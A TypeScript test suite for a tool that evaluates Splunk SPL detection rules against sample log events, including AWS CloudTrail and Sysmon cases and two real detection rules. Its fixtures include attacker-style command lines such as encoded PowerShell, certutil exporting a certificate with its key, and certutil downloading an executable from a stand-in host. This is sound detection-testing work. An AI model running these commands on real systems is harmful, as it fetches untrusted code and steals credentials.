import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import { recogniseLog } from '../../evaluate/event-log.js';
import { PreparedEvent, evaluateRule } from '../../evaluate/rule.js';
import type { EvaluatedRule, Evaluation } from '../../evaluate/types.js';
import { parseContainer } from '../../formats/containers.js';
import { splunkFormat } from '../../formats/splunk/index.js';
import { spl } from './index.js';

function ruleOf(query: string): EvaluatedRule {
  const analysis = spl.analyse(query, {});
  assert.ok(analysis.parsed, JSON.stringify(analysis.diagnostics));
  return { language: 'spl', stages: analysis.stages, sources: analysis.sources, parsed: true };
}

function run(rule: EvaluatedRule, event: Record<string, unknown>, logType?: string): Evaluation {
  return evaluateRule(rule, new PreparedEvent(event, recogniseLog(event, logType)), { trace: true });
}

const fires = (query: string, event: Record<string, unknown>, logType?: string) => run(ruleOf(query), event, logType).fires;

describe('SPL evaluation: search language', () => {
  it('field=value without case, numbers as strings, * wildcards (? and backslashes are themselves)', () => {
    const e = { user: 'Admin', EventCode: '4688', path: 'C:\\Windows\\cmd.exe', q: 'a?c' };
    assert.equal(fires('user=admin', e), 'yes');
    assert.equal(fires('user=root', e), 'no');
    assert.equal(fires('EventCode=4688', e), 'yes');
    assert.equal(fires('user=ad*', e), 'yes');
    assert.equal(fires('path="C:\\\\Windows\\\\*.exe"', e), 'yes');
    assert.equal(fires('path="*\\\\powershell.exe"', e), 'no');
    assert.equal(fires('q="a?c"', e), 'yes');
    assert.equal(fires('q="a?c"', { q: 'abc' }), 'no');
  });

  it('NOT and !=: != needs the field, NOT f=v holds without it; f=*; IN; ranges; CIDR blocks', () => {
    assert.equal(fires('user!=admin', { user: 'bob' }), 'yes');
    assert.equal(fires('user!=admin', {}), 'no');
    assert.equal(fires('NOT user=admin', {}), 'yes');
    assert.equal(fires('NOT user=admin', { user: 'ADMIN' }), 'no');
    assert.equal(fires('user=*', { user: '' }), 'yes');
    assert.equal(fires('user=*', {}), 'no');
    assert.equal(fires('user IN (bob, "eve")', { user: 'Eve' }), 'yes');
    assert.equal(fires('user IN (bob, ad*)', { user: 'admin' }), 'yes');
    assert.equal(fires('user IN (bob, ad*)', { user: 'carol' }), 'no');
    assert.equal(fires('bytes>1000', { bytes: '2048' }), 'yes');
    assert.equal(fires('bytes>1000', { bytes: 10 }), 'no');
    assert.equal(fires('src=10.0.0.0/8', { src: '10.2.3.4' }), 'yes');
    assert.equal(fires('src=10.0.0.0/8', { src: '11.2.3.4' }), 'no');
  });

  it('multivalue fields and JSON paths (spath a{}.b)', () => {
    const e = { tags: ['x', 'Prod'], requestParameters: { items: [{ name: 'a' }, { name: 'b' }] } };
    assert.equal(fires('tags=prod', e), 'yes');
    assert.equal(fires('requestParameters.items{}.name=b', e), 'yes');
    assert.equal(fires('"requestParameters.items{}.name"=c', e), 'no');
  });

  it('bare terms against _raw as whole terms; a phrase; CASE(); no _raw: a value holding the term, else unknown', () => {
    const e = { _raw: 'user=bob ran cmd.exe /c whoami' };
    assert.equal(fires('whoami', e), 'yes');
    assert.equal(fires('WHOAMI', e), 'yes');
    assert.equal(fires('who', e), 'no');
    assert.equal(fires('cmd', e), 'yes');
    assert.equal(fires('"ran cmd.exe"', e), 'yes');
    assert.equal(fires('CASE(WHOAMI)', e), 'no');
    assert.equal(fires('who*', e), 'yes');
    assert.equal(fires('whoami', { CommandLine: 'cmd /c whoami' }), 'yes');
    assert.equal(fires('whoami', { CommandLine: 'cmd /c dir' }), 'unknown');
  });

  it('no _raw: a term in any scalar of the event, whatever its case, and not across two of them', () => {
    const e = { Image: 'C:\\Windows\\cmd.exe', CommandLine: 'cmd /c WHOAMI /all', Parent: { Name: 'Explorer.EXE', Pid: 42 } };
    assert.equal(fires('whoami', e), 'yes');
    assert.equal(fires('explorer.exe', e), 'yes');
    assert.equal(fires('42', e), 'yes');
    assert.equal(fires('"cmd /c whoami"', e), 'yes');
    assert.equal(fires('"all explorer"', e), 'unknown');
    assert.equal(fires('CASE(whoami)', e), 'unknown');
    assert.equal(fires('CASE(WHOAMI)', e), 'yes');
  });
});

describe('SPL evaluation: eval language and pipelines', () => {
  it('where: with case; lower(); like; match; isnull; cidrmatch; field against field; null under NOT', () => {
    const e = { user: 'Admin', cmd: 'powershell -enc AAA', src: '10.1.1.1', a: 'x', b: 'x' };
    assert.equal(fires('* | where user="admin"', e), 'no');
    assert.equal(fires('* | where lower(user)="admin"', e), 'yes');
    assert.equal(fires('* | where like(cmd, "%-enc%")', e), 'yes');
    assert.equal(fires('* | where cmd LIKE "power_hell%"', e), 'yes');
    assert.equal(fires('* | where match(cmd, "-enc\\s+[A-Z]+")', e), 'yes');
    assert.equal(fires('* | where isnull(parent)', e), 'yes');
    assert.equal(fires('* | where isnotnull(parent)', e), 'no');
    assert.equal(fires('* | where cidrmatch("10.0.0.0/8", src)', e), 'yes');
    assert.equal(fires('* | where a=b', e), 'yes');
    assert.equal(fires('* | where a!=b', e), 'no');
    assert.equal(fires('* | where parent!="x"', e), 'no');
    assert.equal(fires('* | where NOT parent="x"', e), 'unknown');
  });

  it('eval-defined flags the parser traces; untraced computed columns are unknown; eval f=lower(f) stays the field', () => {
    const e = { cmd: 'certutil -urlcache', user: 'Bob' };
    assert.equal(fires('* | eval flag=if(like(cmd, "%urlcache%"), 1, 0) | where flag=1', e), 'yes');
    assert.equal(fires('* | eval flag=if(like(cmd, "%decode%"), 1, 0) | where flag=1', e), 'no');
    assert.equal(fires('* | eval n=len(cmd) | where n>5', e), 'unknown');
    assert.equal(fires('* | rex field=cmd "(?<tool>\\w+)" | search tool=certutil', e), 'unknown');
    assert.equal(fires('* | eval user=lower(user) | where user="bob"', e), 'yes');
    assert.equal(fires('* | regex cmd="-url\\w+"', e), 'yes');
    assert.equal(fires('* | regex cmd!="-url\\w+"', e), 'no');
  });

  it('stats by: a missing by-field is unknown; a filter after stats is a threshold; lookups, joins, unknown macros', () => {
    const e = { sourcetype: 'x', user: 'bob' };
    assert.equal(fires('sourcetype=x | stats count by user', e), 'yes');
    assert.equal(fires('sourcetype=x | stats count by user, host', e), 'unknown');
    const threshold = run(ruleOf('sourcetype=x | stats count by user | where count > 5'), e);
    assert.equal(threshold.fires, 'unknown');
    assert.equal(threshold.unevaluated[0]?.what, 'threshold');
    assert.equal(fires('sourcetype=x | lookup users user OUTPUT role | search role=admin', e), 'unknown');
    assert.equal(fires('sourcetype=x NOT [| inputlookup allow.csv | fields user]', e), 'unknown');
    assert.equal(fires('sourcetype=x | `some_site_macro`', e), 'unknown');
    assert.equal(fires('sourcetype=x | `my_rule_filter`', e), 'yes');
    assert.equal(fires('sourcetype=y | `my_rule_filter`', e), 'no');
  });

  it('tstats where over CIM data-model fields, gated on the data model', () => {
    const query =
      '| tstats count from datamodel=Endpoint.Processes where Processes.process_name=certutil.exe by Processes.dest | `drop_dm_object_name(Processes)`';
    const row = { 'Processes.process_name': 'CertUtil.exe', 'Processes.dest': 'host1' };
    assert.equal(fires(query, row), 'yes');
    assert.equal(fires(query, { ...row, 'Processes.process_name': 'cmd.exe' }), 'no');
    assert.equal(fires(query, { 'Processes.process_name': 'certutil.exe' }), 'unknown');
    assert.equal(fires(query, { 'Filesystem.file_name': 'certutil.exe' }), 'no');
    // Not a data-model row: the log cannot be told, and the fields the rule reads are not there.
    assert.equal(fires(query, { process_name: 'certutil.exe' }), 'no');
    assert.equal(fires(query, { 'Processes.process_name': 'certutil.exe', 'Processes.dest': 'h' }, 'datamodel:Endpoint.Processes'), 'yes');
  });
});

describe('SPL evaluation: sources', () => {
  it('macros and sourcetype terms against the event sourcetype, --log-type, a Windows event channel', () => {
    assert.equal(fires('`cloudtrail` eventName=StopLogging', { sourcetype: 'aws:cloudtrail', eventName: 'StopLogging' }), 'yes');
    assert.equal(fires('`cloudtrail` eventName=StopLogging', { sourcetype: 'OktaIM2:log', eventName: 'StopLogging' }), 'no');
    assert.equal(fires('`cloudtrail` eventName=StopLogging', { eventName: 'StopLogging' }), 'unknown');
    assert.equal(fires('`cloudtrail` eventName=StopLogging', { eventName: 'StopLogging' }, 'aws:cloudtrail'), 'yes');
    assert.equal(
      fires('sourcetype=aws:cloudtrail eventName=StopLogging', { eventName: 'StopLogging' }, 'sourcetype:aws:cloudtrail'),
      'yes',
    );
    assert.equal(fires('eventName=StopLogging', { eventName: 'StopLogging' }), 'yes');
    const sysmon = {
      Event: {
        System: { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1 },
        EventData: { Data: [{ '#attributes': { Name: 'Image' }, '#text': 'C:\\Windows\\System32\\certutil.exe' }] },
      },
    };
    assert.equal(fires('`sysmon` EventCode=1 Image="*\\\\certutil.exe"', sysmon), 'yes');
    assert.equal(fires('`wineventlog_security` EventCode=1', sysmon), 'no');
  });
});

describe('SPL evaluation: real ESCU rules', () => {
  const root = fileURLToPath(new URL('../../../../shared/corpus/splunk/detections', import.meta.url));
  const ruleFrom = (file: string): EvaluatedRule => {
    const path = join(root, file);
    const text = readFileSync(path, 'utf8');
    const raw = splunkFormat.read(parseContainer('yaml', text), { path, text })[0]!;
    const analysis = spl.analyse(raw.query, {});
    return { language: raw.language, stages: analysis.stages, sources: analysis.sources, parsed: analysis.parsed };
  };

  const rds = 'cloud/aws_credential_access_rds_password_reset.yml';
  it('AWS RDS master password reset (cloudtrail macro, stats by)', { skip: !existsSync(join(root, rds)) }, () => {
    const rule = ruleFrom(rds);
    const event = {
      sourcetype: 'aws:cloudtrail',
      eventSource: 'rds.amazonaws.com',
      eventName: 'ModifyDBInstance',
      requestParameters: { dBInstanceIdentifier: 'db1', masterUserPassword: '****' },
      src: '203.0.113.9',
      awsRegion: 'us-east-1',
      userAgent: 'aws-cli/2',
      user_arn: 'arn:aws:iam::1:user/bob',
    };
    assert.equal(run(rule, event).fires, 'yes');
    const { masterUserPassword: _, ...parameters } = event.requestParameters;
    assert.equal(run(rule, { ...event, requestParameters: parameters }).fires, 'no');
  });

  const certutil = 'endpoint/certutil_exe_certificate_extraction.yml';
  it('Certutil certificate extraction (tstats over Endpoint.Processes)', { skip: !existsSync(join(root, certutil)) }, () => {
    const rule = ruleFrom(certutil);
    const row = {
      'Processes.process_name': 'certutil.exe',
      'Processes.process': 'certutil.exe -exportPFX -p secret My cert.pfx',
      'Processes.dest': 'host1',
      'Processes.user': 'bob',
      'Processes.parent_process': 'cmd.exe /c run.bat',
      'Processes.parent_process_name': 'cmd.exe',
      'Processes.process_id': 4242,
      'Processes.parent_process_id': 4000,
    };
    assert.equal(run(rule, row).fires, 'yes');
    assert.equal(run(rule, { ...row, 'Processes.process': 'certutil.exe -urlcache -f http://x/a.exe' }).fires, 'no');
  });
});
